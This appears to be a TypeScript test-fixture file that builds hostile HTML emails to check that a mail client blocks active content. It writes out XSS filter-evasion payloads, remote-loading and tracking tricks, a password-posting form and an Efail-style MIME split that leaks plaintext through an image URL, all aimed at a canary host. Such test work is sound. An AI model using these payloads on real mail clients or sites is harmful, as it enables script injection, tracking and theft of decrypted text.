/**
 * Cases whose HTML tries to run code or reach the network while it is being shown. Each one bundles the
 * classic variants of its class (OWASP XSS filter evasion cheat sheet, DOMPurify's mXSS regressions,
 * Efail's direct exfiltration, CVE-2020-12641-style CSS/base tricks seen in webmail), all aimed at the
 * canary, so one case number stands for one class of attack.
 */
import type { CaseSpec } from './build'
import { base64Lines, entity, multipartBody, rawMessage } from './mime'
import { canaryUrl, execPayload, markerOf } from './payload'
import type { HostileContext } from './types'

type HtmlOf = (ctx: HostileContext, id: number) => string

function htmlCase(key: string, title: string, html: HtmlOf): CaseSpec {
  return {
    key,
    title,
    make: (ctx, id, std) =>
      rawMessage(
        std.list({ contentType: 'text/html; charset=utf-8' }),
        `<html><head><title>t</title></head><body>\n<p>${markerOf(id)}</p>\n${html(ctx, id)}\n</body></html>\n`,
      ),
  }
}

const js = execPayload

export const ACTIVE_CONTENT_CASES: readonly CaseSpec[] = [
  htmlCase(
    'script-tags',
    'script tags',
    (c, n) => `<script>${js(c, n, 'inline')}</script>
<SCRIPT SRC="${canaryUrl(c, n, 'src.js')}"></SCRIPT>
<script type="module">${js(c, n, 'module')}</script>
<scr<script>ipt>${js(c, n, 'split')}</scr</script>ipt>
<noscript><p title="</noscript><img src=x onerror=&quot;${js(c, n, 'noscript')}&quot;>"></noscript>
<template><script>${js(c, n, 'template')}</script></template>
<!--[if gte mso 9]><script>${js(c, n, 'conditional')}</script><![endif]-->
<xmp><script>${js(c, n, 'xmp')}</script></xmp>`,
  ),
  htmlCase(
    'event-handlers',
    'event handler attributes',
    (c, n) => `<img src="x" onerror="${js(c, n, 'onerror')}">
<svg onload="${js(c, n, 'svg-onload')}"></svg>
<details open ontoggle="${js(c, n, 'ontoggle')}"><summary>s</summary></details>
<div onmouseover="${js(c, n, 'mouseover')}" style="width:100%;height:40px">hover</div>
<input autofocus onfocus="${js(c, n, 'onfocus')}">
<video><source onerror="${js(c, n, 'source')}"></video>
<body onload="${js(c, n, 'body-onload')}" onpageshow="${js(c, n, 'pageshow')}">
<marquee onstart="${js(c, n, 'marquee')}">m</marquee>
<p style="animation-name:x" onanimationstart="${js(c, n, 'anim')}">a</p>`,
  ),
  htmlCase(
    'javascript-urls',
    'javascript: URLs',
    (c, n) => `<a href="javascript:${js(c, n, 'href')}">plain javascript link</a>
<a href="JaVaScRiPt&#58;${js(c, n, 'entity')}">entity colon</a>
<a href="  java&#x09;script:${js(c, n, 'tab')}">tab inside</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js(c, n, 'decimal')}">decimal entities</a>
<iframe src="javascript:${js(c, n, 'iframe')}"></iframe>
<form action="javascript:${js(c, n, 'form')}"><button>go</button></form>
<img src="javascript:${js(c, n, 'img')}">
<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${js(c, n, 'area')}"></map>
<svg><a xlink:href="javascript:${js(c, n, 'svg-a')}"><text y="20">svg link</text></a></svg>`,
  ),
  htmlCase('data-urls', 'data: URLs', (c, n) => {
    const page = Buffer.from(`<script>${js(c, n, 'data-html')}</script>`).toString('base64')
    const svg = Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(c, n, 'data-svg')}"><script>${js(c, n, 'data-svg-script')}</script></svg>`,
    ).toString('base64')
    return `<a href="data:text/html;base64,${page}">data html link</a>
<iframe src="data:text/html;base64,${page}"></iframe>
<object data="data:text/html;base64,${page}"></object>
<embed src="data:image/svg+xml;base64,${svg}">
<img src="data:image/svg+xml;base64,${svg}" alt="svg image">
<a href="data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA">data exe</a>`
  }),
  htmlCase(
    'frames-objects-embeds',
    'iframes, objects, embeds',
    (c, n) => `<iframe src="${canaryUrl(c, n, 'iframe')}" width="200" height="50"></iframe>
<iframe srcdoc="&lt;script&gt;${js(c, n, 'srcdoc')}&lt;/script&gt;"></iframe>
<object data="${canaryUrl(c, n, 'object')}" type="text/html"></object>
<embed src="${canaryUrl(c, n, 'embed.swf')}" type="application/x-shockwave-flash">
<applet code="X.class" codebase="${canaryUrl(c, n, 'applet')}"></applet>
<frameset><frame src="${canaryUrl(c, n, 'frame')}"></frameset>
<portal src="${canaryUrl(c, n, 'portal')}"></portal>`,
  ),
  htmlCase(
    'meta-refresh',
    'meta refresh and http-equiv',
    (c, n) => `<meta http-equiv="refresh" content="0;url=${canaryUrl(c, n, 'refresh')}">
<meta http-equiv="refresh" content="1; URL='javascript:${js(c, n, 'refresh-js')}'">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="set-cookie" content="pwned=1">`,
  ),
  htmlCase(
    'base-href',
    'base href redirecting relative URLs',
    (c, n) => `<base href="${canaryUrl(c, n, 'base')}/">
<img src="pixel.gif" alt="relative image">
<a href="relative/link">relative link</a>
<link rel="stylesheet" href="style.css">`,
  ),
  {
    key: 'svg-script',
    title: 'SVG with script, inline and attached',
    make: (c, n, std) => {
      const boundary = 'hostile-svg-boundary'
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>${js(c, n, 'svg-file')}</script><rect width="40" height="40" fill="red"/></svg>`
      const html = `<html><body><p>${markerOf(n)}</p>
<svg><script>${js(c, n, 'svg-inline')}</script><animate onbegin="${js(c, n, 'animate')}" attributeName="x" dur="1s"/></svg>
<svg><use href="data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${js(c, n, 'mxss')}"></style></mglyph></table></mtext></math>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;${js(c, n, 'foreign')}&lt;/script&gt;"></iframe></foreignObject></svg>
<img src="cid:evil-svg@hostile.test" alt="inline svg">
</body></html>`
      return rawMessage(
        std.list({ contentType: `multipart/related; boundary="${boundary}"` }),
        multipartBody(boundary, [
          entity({ 'Content-Type': 'text/html; charset=utf-8' }, html),
          entity(
            {
              'Content-Type': 'image/svg+xml',
              'Content-ID': '<evil-svg@hostile.test>',
              'Content-Transfer-Encoding': 'base64',
              'Content-Disposition': 'inline; filename="evil.svg"',
            },
            base64Lines(svg),
          ),
        ]),
      )
    },
  },
  htmlCase(
    'forms',
    'forms posting credentials',
    (c, n) => `<form action="${canaryUrl(c, n, 'form')}" method="post">
<input name="password" type="password" value="hunter2">
<input type="image" src="${canaryUrl(c, n, 'input-image')}">
<button formaction="${canaryUrl(c, n, 'formaction')}">Log in</button>
<input type="submit" value="Submit">
</form>
<isindex action="${canaryUrl(c, n, 'isindex')}">
<button form="f2" formaction="${canaryUrl(c, n, 'button-form')}">outside</button>`,
  ),
  htmlCase(
    'css-remote',
    'CSS url(), @import and remote fonts',
    (c, n) => `<style>
@import url(${canaryUrl(c, n, 'import-url.css')});
@import "${canaryUrl(c, n, 'import-string.css')}";
@font-face { font-family: Evil; src: url("${canaryUrl(c, n, 'font.woff2')}") format("woff2"); }
body { font-family: Evil, sans-serif; background-image: image-set("${canaryUrl(c, n, 'image-set.png')}" 1x); }
.esc { background: \\75 rl(${canaryUrl(c, n, 'escaped-url')}); }
p::after { content: url(${canaryUrl(c, n, 'content-url')}); }
</style>
<div style="background:url('${canaryUrl(c, n, 'style-attr')}')">styled div</div>
<div style="background-image: URL( ${canaryUrl(c, n, 'upper-url')} )">upper URL</div>
<div class="esc" style="list-style-image:url(//${c.canary.replace(/^https?:\/\//, '')}/case-${n}-protocol-relative)">escaped</div>
<link rel="stylesheet" href="${canaryUrl(c, n, 'link.css')}">`,
  ),
  htmlCase(
    'tracking-pixels',
    'tracking pixels and remote media',
    (c, n) => `<img src="${canaryUrl(c, n, 'pixel.gif')}" width="1" height="1">
<img src="//${c.canary.replace(/^https?:\/\//, '')}/case-${n}-protocol-relative.gif">
<img src=" HTTP://${c.canary.replace(/^https?:\/\//, '')}/case-${n}-upper.gif">
<table background="${canaryUrl(c, n, 'table-bg')}"><tr><td>cell</td></tr></table>
<video poster="${canaryUrl(c, n, 'poster')}" src="${canaryUrl(c, n, 'video')}"></video>
<audio src="${canaryUrl(c, n, 'audio')}" autoplay></audio>
<img lowsrc="${canaryUrl(c, n, 'lowsrc')}" dynsrc="${canaryUrl(c, n, 'dynsrc')}">
<a href="https://example.org/" ping="${canaryUrl(c, n, 'ping')}">a link with ping</a>`,
  ),
  htmlCase(
    'srcset',
    'srcset, picture sources and link prefetching',
    (
      c,
      n,
    ) => `<img srcset="${canaryUrl(c, n, 'srcset-1x')} 1x, ${canaryUrl(c, n, 'srcset-2x')} 2x" alt="srcset">
<picture><source srcset="${canaryUrl(c, n, 'picture-source')}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="p"></picture>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" sizes="100vw" srcset="${canaryUrl(c, n, 'sizes')} 100w">
<link rel="preload" as="image" imagesrcset="${canaryUrl(c, n, 'preload')} 1x">
<link rel="dns-prefetch" href="${canaryUrl(c, n, 'dns-prefetch')}">
<link rel="prefetch" href="${canaryUrl(c, n, 'prefetch')}">
<link rel="preconnect" href="${c.canary}">`,
  ),
  {
    key: 'efail-split',
    title: 'Efail-style tag split across MIME parts',
    make: (c, n, std) => {
      // Efail direct exfiltration (Poddebniak et al., USENIX Security 2018): an attacker wraps a captured
      // encrypted part between two HTML parts; a client that joins the parts into one document turns the
      // decrypted text into the tail of an image URL. Here the middle part stands in for the plaintext.
      const boundary = 'efail-boundary'
      return rawMessage(
        std.list({ contentType: `multipart/mixed; boundary="${boundary}"` }),
        multipartBody(boundary, [
          entity(
            { 'Content-Type': 'text/html; charset=utf-8' },
            `<p>${markerOf(n)}</p><img src="${canaryUrl(c, n, 'exfil')}/`,
          ),
          entity({ 'Content-Type': 'text/plain; charset=utf-8' }, 'SECRET-PLAINTEXT-OF-AN-ENCRYPTED-PART'),
          entity({ 'Content-Type': 'text/html; charset=utf-8' }, `">`),
          entity(
            { 'Content-Type': 'text/html; charset=utf-8' },
            `<base href="${canaryUrl(c, n, 'efail-base')}/"><a href="`,
          ),
          entity({ 'Content-Type': 'text/plain; charset=utf-8' }, 'SECOND-SECRET'),
          entity({ 'Content-Type': 'text/html; charset=utf-8' }, `">x</a>`),
        ]),
      )
    },
  },
  {
    key: 'utf7-html',
    title: 'script hidden in UTF-7 and base64',
    make: (c, n, std) => {
      const boundary = 'charset-tricks'
      const utf7 = `+ADw-script+AD4-${js(c, n, 'utf7')}+ADw-/script+AD4-`
      return rawMessage(
        std.list({ contentType: `multipart/alternative; boundary="${boundary}"` }),
        multipartBody(boundary, [
          entity({ 'Content-Type': 'text/plain; charset=utf-7' }, `${markerOf(n)}\n${utf7}`),
          entity(
            { 'Content-Type': 'text/html; charset=utf-7', 'Content-Transfer-Encoding': 'base64' },
            base64Lines(`<p>${markerOf(n)}</p>${utf7}<script>${js(c, n, 'b64')}</script>`),
          ),
        ]),
      )
    },
  },
]
